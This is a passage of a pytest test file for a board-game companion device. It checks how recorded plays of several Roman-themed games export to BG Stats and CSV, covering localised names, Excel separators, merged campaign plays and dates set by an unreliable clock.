                comments = export.bgstats_play({**entry, **changed})["comments"]
                assert comments.startswith("Battle 1. ") and word in comments.lower(), (lang, comments)
            # the start (playDate) was taken with the clock set: the date is sure
            assert export.bgstats_play({**entry, "unsynced": ["finished"]})["comments"] == "Battle 1."
    finally:
        set_language("en")


def test_the_comments_name_the_caesar_rulebook_and_the_glory_variants_played(console):
    """PROTOCOL.md third round: exports carry Caesar!'s rules edition; the comments said the level
    and the modules but neither the rulebook (History shows it) nor Glory's variants (Harsh Times:
    Glory's record lists them as its expansions, and History says them as variants)."""
    from firmware.i18n import set_language
    try:
        for lang, rulebook, harsh in (("en", "Ukrainian rulebook.", "Variants: Harsh Times."),
                                      ("ru", "Украинские правила.", "Варианты: Суровые времена.")):
            assert console.request(f"settings language={lang}")["ok"]
            for line in ("new caesar-solo difficulty=hard poison=1 edition=uk seed=3", "crassus", "end"):
                assert console.request(line)["ok"], line
            comments = console.request("export format=bgstats")["play"]["comments"]
            assert rulebook in comments and comments.index(rulebook) > comments.index(":"), comments
            for line in ["new glory players=Анна,Jack harsh=1 seed=5"] + ["event", "end-round"] * 9 + ["score"]:
                assert console.request(line)["ok"], line
            assert harsh in console.request("export format=bgstats")["play"]["comments"]
    finally:
        set_language("en")


@pytest.mark.parametrize("lang", ["ru", "uk"])
def test_the_csv_opens_in_columns_in_excel_set_to_russian_or_ukrainian(state_dir, lang):
    """Excel opens a .csv (a double click) splitting it at the list separator of Windows' regional
    settings — ';' for Russian and Ukrainian, whose decimal separator is the comma — and reads it as
    UTF-8 by its byte-order mark: a ','-separated sheet opened there as one column. ``sep=;`` gives
    the same table ';'-separated (a cell holding ';' quoted); without it the sheet stays
    ','-separated in every language (a program reading the export gets the same format whatever
    language the device speaks), and the reply names the separator used."""
    share = "a;b,c"
    lines = ["new jc-battle people=caesar:Анна,pompey:Борис", f"share {share}", "add attacker c_leg10",
             "add defender p_leg1", "fight", "end"]
    replies = run_console(state_dir, lines + ["export format=csv", f"settings language={lang}", "export format=csv",
                                              "export format=csv sep=;", "export format=csv sep=,",
                                              "export format=csv sep=|", "export format=bgstats sep=;"])
    en, local, semi, comma, bad, not_csv = (replies[-7], replies[-5], replies[-4], replies[-3], replies[-2],
                                            replies[-1])
    assert en["separator"] == local["separator"] == comma["separator"] == "," and semi["separator"] == ";"
    assert local["text"].split("\r\n")[0] == en["text"].split("\r\n")[0] == comma["text"].split("\r\n")[0]
    text = semi["text"]
    assert text.startswith("\ufeff") and text.count("\r\n") == text.count("\n")     # BOM, CRLF: as before
    header = text[1:].split("\r\n")[0]
    assert header.split(";")[:3] == ["id", "game", "name"] and "," not in header    # columns in Excel ru/uk
    as_excel = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert as_excel == list(csv.reader(io.StringIO(local["text"][1:])))            # the same table
    assert {r["share"] for r in csv.DictReader(io.StringIO(text[1:]), delimiter=";")} == {share}
    assert {r["share"] for r in csv.DictReader(io.StringIO(local["text"][1:]))} == {share}
    assert csv.Sniffer().sniff(text[1:2000]).delimiter == ";"                      # as a reader guesses it
    assert (bad["ok"], bad["error"]) == (False, "bad_arguments") and "sep=" in bad["message"]
    assert (not_csv["ok"], not_csv["error"]) == (False, "bad_arguments")


def test_every_games_source_game_id_stays_as_pushed_and_caesars_two_name_one_box(state_dir):
    # BG Stats remembers which of its games a source's game id was matched to: a changed
    # sourceGameId would be matched anew (or make a second game) for every play pushed before.
    # Caesar!'s solo and duel keep their two ids (docs/protocol.md), both with the box's name and
    # bggId, so BG Stats finds the one game for both.
    replies = run_console(state_dir, [
        "new caesar-solo difficulty=easy seed=3", "crassus", "end", "export format=bgstats",
        "new caesar-duel seed=4 people=caesar:Anna,pompey:Boris", "end", "export format=bgstats",
        *GAMES[:4], "export format=bgstats", "new glory players=Anna,Boris seed=5", "end", "export format=bgstats",
        "new sword players=romans,gauls seed=1", "scoring gauls outside=5 auto=4", "export format=bgstats"])
    games = [r["play"]["game"] for r in replies if r.get("format") == "bgstats"]
    assert [g["sourceGameId"] for g in games] == ["caesar-solo", "caesar-duel", "jc-battle", "glory", "sword"]
    assert games[0]["name"] == games[1]["name"] == "Caesar! Seize Rome in 20 Minutes"
    assert games[0]["bggId"] == games[1]["bggId"] == 338957


@pytest.mark.parametrize("lang, said", [("en", ("Player 1", "Auto-Crassus")), ("ru", ("Игрок 1", "Авто-Красс")),
                                        ("uk", ("Гравець 1", "Авто-Красс"))])
def test_auto_crassus_and_an_unnamed_side_are_named_in_the_language_set_their_ids_in_every_language(
        lang: str, said: tuple[str, str]):
    """A Russian export named the players «Player 1» and «Auto-Crassus», the only English words of
    its people (the rulebook's «Авто-Красс»); BG Stats shows those names once, when it asks who
    each player is, and knows them by ``sourcePlayerId``, which stays ``player 1`` and
    ``auto-crassus`` in every language, as in every export before (S-2: Auto-Crassus starts)."""
    entry = {"id": 3, "game": "caesar-solo", "name": "Caesar! Seize Rome in 20 Minutes", "status": "finished",
             "started": None, "finished": "2026-03-01T18:47:40Z", "mode": {"kind": "solo", "side": "caesar"},
             "players": [{"name": "Caesar", "role": "caesar", "score": 12, "winner": True, "startPlayer": False},
                         {"name": "Auto-Crassus", "score": 5, "winner": False, "startPlayer": True}],
             "result": "Caesar won.", "unsynced": [], "seed": None}
    play, rows = _exported_in(lang, entry)
    assert [(p["name"], p["sourcePlayerId"]) for p in play["players"]] == [(said[0], "player 1"),
                                                                          (said[1], "auto-crassus")]
    assert [(r["player"], r["player_id"]) for r in rows] == [(said[0], "player 1"), (said[1], "auto-crassus")]


# Each game's sides as its edition names them (../shared/seeds: the Caesar! rulebooks' «Цезарь»/«Цезар»,
# the Julius Caesar summary's «Помпей», the Sword fragment's «Римляне», «Галлы», «Этруски», the
# Glory rulebook's colours), in the order the players are listed.
ROLES_SAID = {
    "ru": {"caesar-duel": ["Цезарь", "Помпей"], "jc-battle": ["Цезарь", "Помпей"],
           "sword": ["Римляне", "Галлы", "Этруски"], "glory": ["Красный", ""]},
    "uk": {"caesar-duel": ["Цезар", "Помпей"], "jc-battle": ["Цезар", "Помпей"],
           "sword": ["Римляни", "Галли", "Етруски"], "glory": ["Червоний", ""]},
    "en": {"caesar-duel": ["Caesar", "Pompey"], "jc-battle": ["Caesar", "Pompey"],
           "sword": ["Romans", "Gauls", "Etruscans"], "glory": ["Red", ""]},
}
FOUR_GAMES = ["new caesar-duel people=caesar:Анна seed=3", "end",
              "new jc-battle people=pompey:Борис seed=4", "add attacker c_leg10", "add defender p_pompeius", "fight",
              "new sword players=romans,gauls,etruscans people=gauls:Віра seed=1", "scoring gauls outside=5 auto=4",
              "new glory players=Красный,Анна seed=5"] + ["event", "end-round"] * 9 + ["fame Анна +2", "score"]


@pytest.mark.parametrize("lang", ["ru", "uk", "en"])
def test_the_roles_are_the_sides_as_the_players_edition_names_them_in_every_game(console, lang: str):
    """A Ukrainian table's BG Stats play of The Sword of Rome said «Romans», «Gauls»: the one English
    word beside «Гравець 2». BG Stats' ``role`` is text the app shows beside the player (the format
    has no id for a role: players are known again by ``sourcePlayerId``, which stays as it was), so
    it is the side as the edition of the language set names it, in the play and in the CSV a
    spreadsheet shows; the game's name stays the box's (BG Stats matches the game by it)."""
    for line in FOUR_GAMES:
        assert console.request(line)["ok"], line
    assert console.request(f"settings language={lang}")["ok"]
    games = console.request("history")["games"]
    sheet = console.request("export format=csv sep=;")
    rows = list(csv.DictReader(io.StringIO(sheet["text"].lstrip("\ufeff")), delimiter=";"))
    ids = {}
    for g in games:
        play = console.request(f"export format=bgstats id={g['id']}")["play"]
        assert [p.get("role", "") for p in play["players"]] == ROLES_SAID[lang][g["game"]], g["game"]
        assert [r["role"] for r in rows if r["id"] == str(g["id"])] == ROLES_SAID[lang][g["game"]], g["game"]
        assert play["game"]["name"] in ("Caesar! Seize Rome in 20 Minutes", "Julius Caesar", "The Sword of Rome",
                                        "For the Glory of Rome")
        ids[g["game"]] = [p["sourcePlayerId"] for p in play["players"]]
    assert ids == {"caesar-duel": ["анна", "player 2"], "jc-battle": ["player 1", "борис"],
                   "sword": ["player 1", "віра", "player 3"], "glory": ["player 1", "анна"]}


@pytest.mark.parametrize("lang, roles", [("ru", ["Помпей", "Цезарь"]), ("uk", ["Помпей", "Цезар"]),
                                         ("en", ["Pompey", "Caesar"])])
def test_auto_crassus_plays_the_side_the_player_left_him_in_the_play_and_the_sheet(lang: str, roles: list[str]):
    """A solo Caesar! (S-1: Auto-Crassus takes the side the player did not choose) was exported with
    the player's side as his role and none for Auto-Crassus: BG Stats counted the player's Pompey
    and never Auto-Crassus's Caesar. He has the side left him, as the edition names it."""
    entry = {"id": 4, "game": "caesar-solo", "name": "Caesar! Seize Rome in 20 Minutes", "status": "finished",
             "started": None, "finished": "2026-03-01T18:47:40Z",
             "mode": {"kind": "solo", "side": "pompey", "crassus_side": "caesar"},
             "players": [{"name": "Анна", "role": "pompey", "score": 12, "winner": True, "startPlayer": False},
                         {"name": "Auto-Crassus", "score": 5, "winner": False, "startPlayer": True}],
             "result": "Pompey won.", "unsynced": [], "seed": None}
    play, rows = _exported_in(lang, entry)
    assert [p.get("role") for p in play["players"]] == [r["role"] for r in rows] == roles
    assert [p["sourcePlayerId"] for p in play["players"]] == ["анна", "auto-crassus"]


def _jc_session(console, people: str, battles: list[tuple[str, str]], then: list[str]) -> None:
    lines = [f"new jc-battle year=5 people={people} seed=4"]
    for i, (c, p) in enumerate(battles):
        lines += (["next-battle"] if i else []) + [f"add attacker {c}", f"add defender {p}", "fight"]
    for line in lines + then:
        assert console.request(line)["ok"], line


def test_a_julius_caesar_game_is_one_bg_stats_play_whatever_part_is_exported(console):
    """J-13, J-17: History keeps a campaign's every battle and its verdict, and each was pushed to
    BG Stats as a play of its own: a player's statistics counted one evening's campaign as four
    games of Julius Caesar, and its minutes twice (the campaign's play time holds its battles').
    BG Stats gets one play per game played: every part of the session exports the campaign's play
    (its verdict, its victory points, the whole session's play time) under the id its first battle
    was pushed with, so a battle pushed while the campaign went on is updated, never counted beside
    it. While the campaign goes on, the play is the game so far: its first battle alone, then its
    battles with no winner yet (their time, begun with the first); a campaign left for another game
    stays that."""
    _jc_session(console, "caesar:Anna,pompey:Boris", [("c_leg10", "p_leg1")], [])
    (battle1,) = console.request("history 1")["games"]
    early = console.request(f"export format=bgstats id={battle1['id']}")
    assert early["ok"] and early["play"]["sourcePlayId"].endswith("-battle-1")       # the game so far: battle 1
    for line in ["next-battle", "add attacker c_leg8", "add defender p_leg3", "fight"]:
        assert console.request(line)["ok"], line
    (battle2,) = console.request("history 1")["games"]
    so_far = console.request("export format=bgstats")                 # (the newest: battle 2, a game going on)
    assert so_far["id"] == battle2["id"] and so_far["play"]["sourcePlayId"] == early["play"]["sourcePlayId"]
    assert not any(p["winner"] or "score" in p for p in so_far["play"]["players"])
    assert so_far["play"]["durationMin"] == battle1["minutes"] + battle2["minutes"]
    assert so_far["play"]["comments"].startswith("2 battles fought; the game has no result yet.")
    for line in ["next-battle", "add attacker c_leg9", "add defender p_leg2", "fight",
                 "control Roma caesar", "control Athenae caesar", "winter"]:
        assert console.request(line)["ok"], line
    games = console.request("history 10")["games"]
    campaign = next(g for g in games if g["mode"]["kind"] == "campaign")
    assert len(games) == 4 and campaign["status"] == "finished"
    plays = [console.request(f"export format=bgstats id={g['id']}") for g in games]
    assert all(p["ok"] for p in plays), plays
    assert {p["play"]["sourcePlayId"] for p in plays} == {early["play"]["sourcePlayId"]}   # one play in BG Stats
    assert all(p["play"] == plays[0]["play"] and p["id"] == campaign["id"] for p in plays)
    play = plays[0]["play"]
    assert [(p["name"], p["score"], p["winner"]) for p in play["players"]] == \
        [(p["name"], p["score"], p["winner"]) for p in campaign["players"]]          # the verdict, J-17
    assert play["durationMin"] == campaign["minutes"]          # the whole session's, counted once
    assert "Battle" not in play["comments"] and "campaign" in play["comments"].lower()


def test_a_lone_battle_ended_by_the_players_is_its_battles_play_with_its_winner(console):
    """A session of one battle, then ``end``: History keeps the battle (with its winner) and an
    ``ended`` record of the session (no winner); BG Stats got both as two plays, the second a game
    nobody won. Both export the one play: the battle, its winner, its own id as before."""
    _jc_session(console, "caesar:Anna,pompey:Vera", [("c_leg10", "p_leg1")], ["end"])
    ended, battle = console.request("history 2")["games"]
    assert (ended["status"], battle["mode"]["kind"]) == ("ended", "battle")
    plays = [console.request(f"export format=bgstats id={g['id']}") for g in (ended, battle)]
    assert plays[0]["play"] == plays[1]["play"] and plays[0]["id"] == battle["id"]
    assert [p["winner"] for p in plays[0]["play"]["players"]] == [p["winner"] for p in battle["players"]]
    assert any(p["winner"] for p in battle["players"])


@pytest.mark.parametrize("tool", [["new dice seed=1", "roll 2d6", "end"], ["new bag items=gold*2 seed=7", "draw", "end"]])
def test_a_dice_or_bag_session_is_no_bg_stats_play_and_the_newest_game_is_exported_instead(console, tool):
    """A dice or bag session ended was pushed as a play of a game «Dice» («Dice & bags») with no
    players: BG Stats made a game of it and counted it as played. It is no game (the device does
    not know which game the dice served): its own export is refused with a sentence saying why
    (the CSV keeps it), and ``export format=bgstats`` without ``id=`` exports the newest game."""
    for line in ["new caesar-duel people=caesar:Anna,pompey:Boris seed=3", "end", *tool]:
        assert console.request(line)["ok"], line
    kit, duel = console.request("history 2")["games"]
    refused = console.request(f"export format=bgstats id={kit['id']}")
    assert refused["error"] == "bad_arguments" and "not a game" in refused["message"]
    newest = console.request("export format=bgstats")
    assert newest["ok"] and newest["id"] == duel["id"] and newest["play"]["game"]["sourceGameId"] == "caesar-duel"
    sheet = console.request("export format=csv")["text"]
    assert f"\r\n{kit['id']},{kit['game']}," in sheet                      # History's sheet keeps it


def test_bgstats_of_a_history_of_tools_only_says_there_is_no_game_never_that_it_is_empty(console):
    """A History holding only a dice session: ``export format=bgstats`` said «The history is empty»
    beside a History that lists the dice. It says there is no game yet, and why the dice are none."""
    for line in ["settings language=ru", "new dice seed=1", "roll 2d6", "end"]:
        assert console.request(line)["ok"], line
    out = console.request("export format=bgstats")
    assert out["error"] == "bad_arguments" and console.request("history")["games"]
    assert out["message"] == "В истории ещё нет партий: кубики и мешочек — не партия для BG Stats.", out


def _reopened(console, lines: list[str], header: dict) -> None:
    """Reopen an archived game as History → Earlier games does (its lines given again), replayed to where it was."""
    assert console.reopen(header["line"], int(header["seed"]), bool(header.get("committed")), int(header.get("v") or 0),
                          False, lines, was=str(header["sid"]))["ok"]
    for line in lines:
        assert console.request(line)["ok"], line


def _without_of(console) -> None:
    """History's rows as a Legatus from before wrote a copy's: without ``of`` (its first session)."""
    from firmware.history_follow import row_crc
    with console.store.transaction() as db:
        for rid, sid, part, game, depth, sealed, text in db.execute(
                "SELECT id, sid, part, game, depth, sealed, record FROM history").fetchall():
            data = json.loads(text)
            if data.pop("of", None) is not None:
                text = json.dumps(data, ensure_ascii=False, sort_keys=True)
                db.execute("UPDATE history SET record=?, crc=? WHERE id=?",
                           (text, row_crc(rid, sid, part, game, depth, sealed, text), rid))


@pytest.mark.parametrize("kept", ["now", "older rows", "header damaged"])
def test_a_campaign_reopened_from_earlier_games_and_finished_there_is_one_bg_stats_play(console, kept):
    """J-13, J-17: a campaign of two battles, left for another game, reopened from Earlier games and
    finished in the copy. History keeps the battles under the first session and the verdict under
    the copy's: BG Stats got two plays of the one game (the battles' «game so far» under
    ``<sid>-battle-1``, the copy's verdict under the copy's own id), the evening counted twice.
    Every entry of the game — the first session's battles, the copy's battle and its verdict —
    exports the one play: the verdict, under the id the game so far was pushed with. (``older rows``:
    History's rows as written before they named the first session: the copy's header says it;
    ``header damaged``: the copy's session row fails its checksum: History's rows say it.)"""
    _jc_session(console, "caesar:Anna,pompey:Boris", [("c_leg10", "p_leg1"), ("c_leg8", "p_leg3")], [])
    so_far = console.request("export format=bgstats")
    assert so_far["ok"] and so_far["play"]["sourcePlayId"].endswith("-battle-1")
    lines, header = list(console.session.lines), dict(console.session.header)
    assert console.request("new dice seed=1")["ok"]
    _reopened(console, lines, header)
    assert console.session.header["copy_of"] == header["sid"]
    for line in ["next-battle", "add attacker c_leg9", "add defender p_leg2", "fight",
                 "control Roma caesar", "control Athenae caesar", "winter"]:
        assert console.request(line)["ok"], line
    if kept == "older rows":
        _without_of(console)
    elif kept == "header damaged":
        with console.store.transaction() as db:
            db.execute("UPDATE sessions SET crc=crc+1 WHERE instr(header, ?) > 0", (header["sid"],))
    games = [g for g in console.request("history 10")["games"] if g["game"] == "jc-battle"]
    campaign = next(g for g in games if g["mode"]["kind"] == "campaign")
    assert len(games) == 4 and campaign["status"] == "finished"
    kept = console.store.db.execute("SELECT sid, part FROM history WHERE game='jc-battle' ORDER BY id").fetchall()
    assert [(sid == header["sid"], part) for sid, part in kept] == [
        (True, "battle-1"), (True, "battle-2"), (False, "battle-3"), (False, "campaign")]   # two sessions' records
    plays = [console.request(f"export format=bgstats id={g['id']}") for g in games]
    assert all(p["ok"] for p in plays), plays
    assert {p["play"]["sourcePlayId"] for p in plays} == {so_far["play"]["sourcePlayId"]}   # one play in BG Stats
    assert all(p["play"] == plays[0]["play"] and p["id"] == campaign["id"] for p in plays)
    assert [(p["name"], p["score"], p["winner"]) for p in plays[0]["play"]["players"]] == \
        [(p["name"], p["score"], p["winner"]) for p in campaign["players"]]          # the verdict, J-17
    assert console.request("export format=bgstats")["play"] == plays[0]["play"]      # the newest game: the same play


def test_a_campaign_left_before_its_first_battle_ended_and_played_on_in_a_copy_is_the_game_so_far(console):
    """A campaign left for another game before any battle ended (History: ``abandoned``), reopened
    from Earlier games and played on to two battles: every entry of it, the abandoned one too,
    exports the one play of the game so far (two battles, no winner yet), never the abandoned
    record of its first session (a play «Abandoned» beside the battles)."""
    for line in ["new jc-battle year=5 people=caesar:Anna,pompey:Boris seed=4", "add attacker c_leg10"]:
        assert console.request(line)["ok"], line
    lines, header = list(console.session.lines), dict(console.session.header)
    assert console.request("new dice seed=1")["ok"]
    _reopened(console, lines, header)
    for line in ["add defender p_leg1", "fight", "next-battle", "add attacker c_leg8", "add defender p_leg3", "fight"]:
        assert console.request(line)["ok"], line
    games = [g for g in console.request("history 10")["games"] if g["game"] == "jc-battle"]
    assert sorted(g["status"] for g in games) == ["abandoned", "finished", "finished"]
    plays = [console.request(f"export format=bgstats id={g['id']}") for g in games]
    assert all(p["ok"] and p["play"] == plays[0]["play"] and p["status"] == "ended" for p in plays), plays
    assert plays[0]["play"]["comments"].startswith("2 battles fought; the game has no result yet.")
    assert not any(p["winner"] for p in plays[0]["play"]["players"])


def test_a_campaign_finished_in_a_copy_the_next_day_is_dated_from_its_first_evening(console, history_clock):
    """A campaign begun on 1 March at 10:00 (two battles), left, reopened from Earlier games on
    2 March at 19:00 and finished there: its one BG Stats play (the verdict, under the first
    session's id) was dated 2 March 19:00 — the copy's start —, moving the play pushed on 1 March
    to another day, while its play time holds both evenings'. It is dated from the game's start."""
    import datetime as dt

    def local(iso: str) -> str:
        return dt.datetime.fromisoformat(iso.replace("Z", "+00:00")).astimezone().strftime("%Y-%m-%d %H:%M:%S")
    history_clock.wall = "2026-03-01T10:00:00Z"
    _jc_session(console, "caesar:Anna,pompey:Boris", [("c_leg10", "p_leg1"), ("c_leg8", "p_leg3")], [])
    so_far = console.request("export format=bgstats")["play"]
    assert so_far["playDate"] == local("2026-03-01T10:00:00Z")
    lines, header = list(console.session.lines), dict(console.session.header)
    assert console.request("new dice seed=1")["ok"]
    history_clock.wall = "2026-03-02T19:00:00Z"
    history_clock.restart()
    _reopened(console, lines, header)
    for line in ["next-battle", "add attacker c_leg9", "add defender p_leg2", "fight",
                 "control Roma caesar", "control Athenae caesar", "winter"]:
        assert console.request(line)["ok"], line
    play = console.request("export format=bgstats")["play"]
    assert play["sourcePlayId"] == so_far["sourcePlayId"] and any(p["winner"] for p in play["players"])
    assert play["playDate"] == local("2026-03-01T10:00:00Z"), play["playDate"]
    rows = list(csv.DictReader(io.StringIO(console.request("export format=csv")["text"].lstrip("\ufeff"))))
    campaign = [r for r in rows if r["mode.kind"] == "campaign"]
    assert [r["play_date"] for r in campaign] == [play["playDate"]] * 2          # the sheet's date as the play's
    assert campaign[0]["duration_min"] == str(play["durationMin"])


@pytest.mark.parametrize("kept", ["now", "older rows"])
def test_a_game_left_for_another_and_finished_in_a_copy_is_one_bg_stats_play(console, history_clock, kept):
    """A Glory game of three rounds on 1 March, left for the dice (History: ``abandoned``),
    reopened from Earlier games on 2 March and scored there (G-15): History keeps both records,
    and BG Stats got them as two plays — one abandoned, one finished — of the one game. Both
    export the one play: the finished game's scores and winner, under the id the abandoned one
    was pushed with (the game's first record), dated from the game's start — and the CSV's row
    says the play's date, also for History's rows written before they named the first session
    (``older rows``: the copy's header says it; the sheet said the copy's evening, 2 March)."""
    import datetime as dt

    def local(iso: str) -> str:
        return dt.datetime.fromisoformat(iso.replace("Z", "+00:00")).astimezone().strftime("%Y-%m-%d %H:%M:%S")
    history_clock.wall = "2026-03-01T10:00:00Z"
    for line in ["new glory players=Анна,Борис seed=5"] + ["event", "end-round"] * 3:
        assert console.request(line)["ok"], line
    lines, header = list(console.session.lines), dict(console.session.header)
    assert console.request("new dice seed=1")["ok"]
    left = console.request("export format=bgstats")
    assert left["status"] == "abandoned" and left["play"]["playDate"] == local("2026-03-01T10:00:00Z")
    history_clock.wall = "2026-03-02T19:00:00Z"
    history_clock.restart()
    _reopened(console, lines, header)
    for line in ["event", "end-round"] * 6 + ["fame Анна +2", "score"]:
        assert console.request(line)["ok"], line
    if kept == "older rows":
        _without_of(console)
    games = [g for g in console.request("history 10")["games"] if g["game"] == "glory"]
    assert sorted(g["status"] for g in games) == ["abandoned", "finished"]
    scored = next(g for g in games if g["status"] == "finished")
    plays = [console.request(f"export format=bgstats id={g['id']}") for g in games]
    assert all(p["ok"] and p["play"] == plays[0]["play"] and p["id"] == scored["id"] for p in plays), plays
    play = plays[0]["play"]
    assert play["sourcePlayId"] == left["play"]["sourcePlayId"]                      # one play in BG Stats
    assert [(p["name"], p["winner"]) for p in play["players"]] == [("Анна", True), ("Борис", False)]
    assert play["playDate"] == local("2026-03-01T10:00:00Z")
    rows = list(csv.DictReader(io.StringIO(console.request("export format=csv")["text"].lstrip("\ufeff"))))
    assert {r["play_date"] for r in rows if r["id"] == str(scored["id"])} == {play["playDate"]}


def test_a_lost_glory_solo_is_exported_with_no_place(console):   # G-17
    """The Emperor's solo is won by a title (G-17: 4 goals a Praetor); one that earns none is lost,
    ``winner: false``, and went to BG Stats with ``rank: 1`` beside it: a first place in a game
    lost. A lone player has no place to lose (nobody is beaten there): the play gives none, and the
    CSV's cell is empty; BG Stats has the loss from ``winner``."""
    from firmware.export import ranks_of
    for line in ["new glory players=Jack seed=4"] + ["event", "end-round"] * 9 + ["score"]:
        assert console.request(line)["ok"], line
    assert "earns no title" in console.request("history 1")["games"][0]["result"]
    (player,) = console.request("export format=bgstats")["play"]["players"]
    assert player["winner"] is False and "rank" not in player, player
    sheet = console.request("export format=csv")
    rows = list(csv.DictReader(io.StringIO(sheet["text"].lstrip("\ufeff")), delimiter=sheet["separator"]))
    assert [(r["player"], r["winner"], r["rank"]) for r in rows] == [("Jack", "0", "")]
    assert ranks_of([{"name": "Jack", "score": 60, "winner": True, "rank": 1}]) == [1]     # a title won: 1st
    assert ranks_of([{"name": "A", "score": 30, "winner": False, "rank": 2},               # a lost seat of two
                     {"name": "B", "score": 40, "winner": True, "rank": 1}]) == [2, 1]


@pytest.mark.parametrize("after", ["a later game", "the export", "no clock yet"])
def test_a_game_played_before_the_clock_was_ever_set_gets_a_true_date_before_which_it_was_played(
        state_dir, history_clock, after):
    """QA (clock): a Pi with no network and no saved time starts at 1970: a Glory game played
    through then (G-15) has no date at all. BG Stats got ``playDate: ""`` — a field its push
    format requires (no play) — beside a comment that «its date may be wrong», of a date never
    given. It gets a true date the game was played before: the first time Legatus took with its
    clock set after it (``a later game``'s finish: the same at every export), else the export's
    own time (``the export``), and the comments say the date is not known and which one is given;
    with no true time anywhere yet (``no clock yet``) no date, and the comments say it is not
    known. Never 1970."""
    import datetime as dt
    clock = history_clock
    clock.wall, clock.unset, clock.mono = "1970-01-01T00:00:42Z", True, 100.0
    run_console_in(state_dir, ["new glory players=Анна,Борис seed=5"] + ["event", "end-round"] * 9
                   + ["fame Анна +2", "score"])
    clock.wall, clock.mono = "1970-01-01T00:50:42Z", 3100.0
    then = ["new dice seed=1", "roll 2d6"] if after == "a later game" else []
    run_console_in(state_dir, then)
    clock.restart()
    clock.wall, clock.unset, clock.mono = "2026-11-26T19:00:00Z", after == "no clock yet", 10.0
    run_console_in(state_dir, ["end"] if then else [])
    clock.wall = "2026-11-28T12:00:00Z"                    # exported two days later
    replies = run_console_in(state_dir, ["settings language=ru", "export format=bgstats id=1"])
    play = replies[-1]["play"]
    assert "1970" not in play["playDate"]
    if after == "no clock yet":
        assert play["playDate"] == ""
        assert "её дата неизвестна." in play["comments"] and "может быть неверной" not in play["comments"]
        return
    sure = "2026-11-26T19:00:00Z" if after == "a later game" else "2026-11-28T12:00:00Z"
    when = dt.datetime.fromisoformat(sure.replace("Z", "+00:00")).astimezone()
    assert play["playDate"] == when.strftime("%Y-%m-%d %H:%M:%S")
    assert f"её дата неизвестна. Она сыграна до {when:%d.%m.%Y %H:%M} — эта дата и указана." in play["comments"]


@pytest.mark.parametrize("lang, said", [
    ("en", "its date may be wrong. It was played before {}."),
    ("ru", "её дата может быть неверной. Она сыграна до {}."),
    ("uk", "її дата може бути неправильною. Її зіграно до {}.")])
@pytest.mark.parametrize("after", ["a later game", "the export", "no clock yet"])
def test_a_game_dated_by_a_restored_clock_says_the_true_time_it_was_played_before(state_dir, history_clock,
                                                                                 lang, said, after):
    """QA (clock): a Pi with no network and no real-time clock starts at the time of its last
    shutdown (fake-hwclock): a Glory game played then (G-15) is dated days behind its evening.
    BG Stats gets that date with «its date may be wrong» and nothing more, though Legatus took a
    true time after it (``a later game``'s finish, else the export's own): the comments say the
    game was played before it (the date given stays the game's own, as History shows it). With no
    true time anywhere yet (``no clock yet``), the «may be wrong» sentence alone."""
    import datetime as dt
    clock = history_clock
    clock.wall, clock.unset, clock.mono = "2026-11-20T18:00:00Z", True, 100.0    # the last shutdown's
    run_console_in(state_dir, ["new glory players=Анна,Борис seed=5"] + ["event", "end-round"] * 9
                   + ["fame Анна +2", "score"])
    clock.wall, clock.mono = "2026-11-20T18:50:00Z", 3100.0
    then = ["new dice seed=1", "roll 2d6"] if after == "a later game" else []
    run_console_in(state_dir, then)
    clock.restart()
    clock.wall, clock.unset, clock.mono = "2026-11-26T19:00:00Z", after == "no clock yet", 10.0
    run_console_in(state_dir, ["end"] if then else [])
    clock.wall = "2026-11-28T12:00:00Z"                    # exported two days later
    play = run_console_in(state_dir, [f"settings language={lang}", "export format=bgstats id=1"])[-1]["play"]
    begun = dt.datetime.fromisoformat("2026-11-20T18:00:00+00:00").astimezone()
    assert play["playDate"] == begun.strftime("%Y-%m-%d %H:%M:%S")            # the game's own date
    may_be_wrong = said.split(". ")[0] + "."
    if after == "no clock yet":
        assert play["comments"].count(may_be_wrong) == 1 and said.split(". ")[1][:8] not in play["comments"]
        return
    sure = "2026-11-26T19:00:00Z" if after == "a later game" else "2026-11-28T12:00:00Z"
    when = dt.datetime.fromisoformat(sure.replace("Z", "+00:00")).astimezone()
    assert said.format(f"{when:%d.%m.%Y %H:%M}") in play["comments"], play["comments"]


def test_a_true_time_not_after_a_restored_date_is_not_said():
    """The true time a play was played before is said only when it is after the date given (a
    clock restored from a shutdown is behind the true time; one not after it says nothing of it)."""
    from firmware.export_dates import sure_before
    entry = {"started": "2026-11-20T18:00:00Z", "finished": "2026-11-20T19:00:00Z",
             "unsynced": ["started", "finished"], "before": "2026-11-20T17:00:00Z"}
    assert sure_before(entry) is None
    assert sure_before({**entry, "before": "2026-11-26T19:00:00Z"}) is not None


def test_a_record_rebuilt_under_a_new_id_gives_no_played_before_time(state_dir, history_clock, monkeypatch):
    """QA (storage, clock): a Glory game (G-15) finished on 20.11 with the clock set; damage took its
    History row and the card refused to write it again at that start; a second game was played
    through with a clock nothing set (1970) and took the free id; the next start wrote the first
    game again under a new id, newer than the second's, with its old times. The second game's BG
    Stats play, which has no date of its own, was given «played before 20.11.2026 18:40» — the
    first game's finish, before the second was played. A record written again under a new id says
    nothing of when it was played by its place: the true time is the export's own."""
    import datetime as dt
    import sqlite3

    from engine.text import Msg
    from firmware import history_rebuild
    from firmware.storage import StorageError
    glory = ["new glory players=Анна,Борис seed=5"] + ["event", "end-round"] * 9 + ["fame Анна +2", "score"]
    clock = history_clock
    clock.wall, clock.mono = "2026-11-20T18:00:00Z", 100.0
    run_console_in(state_dir, glory[:-1])
    clock.wall = "2026-11-20T18:40:00Z"
    run_console_in(state_dir, [glory[-1], "end"])
    db = sqlite3.connect(state_dir / "legatus.db")
    db.execute("UPDATE history SET record = replace(record, '\"status\": \"finished\"', '\"status\": \"finishee\"')")
    db.commit()
    db.close()

    def refused(*_a: object, **_k: object) -> list[str]:
        raise StorageError(Msg("The storage is full: nothing was changed. Free some space; Legatus goes on by itself."))
    clock.restart()
    clock.wall, clock.unset, clock.mono = "1970-01-01T00:00:42Z", True, 100.0
    with monkeypatch.context() as m:                            # the damaged row set aside, not written again,
        m.setattr(history_rebuild, "rebuild", refused)          # and the next game played in that run
        assert run_console_in(state_dir, ["history", *glory, "end"])[0]["games"] == []
    clock.restart()
    clock.wall, clock.unset, clock.mono = "2026-11-28T12:00:00Z", False, 10.0
    replies = run_console_in(state_dir, ["history", "settings language=en", "export format=bgstats id=1"])
    games = replies[0]["games"]
    assert [(g["id"], g["finished"]) for g in games] == [(2, "2026-11-20T18:40:00Z"), (1, "1970-01-01T00:00:42Z")]
    play = replies[-1]["play"]
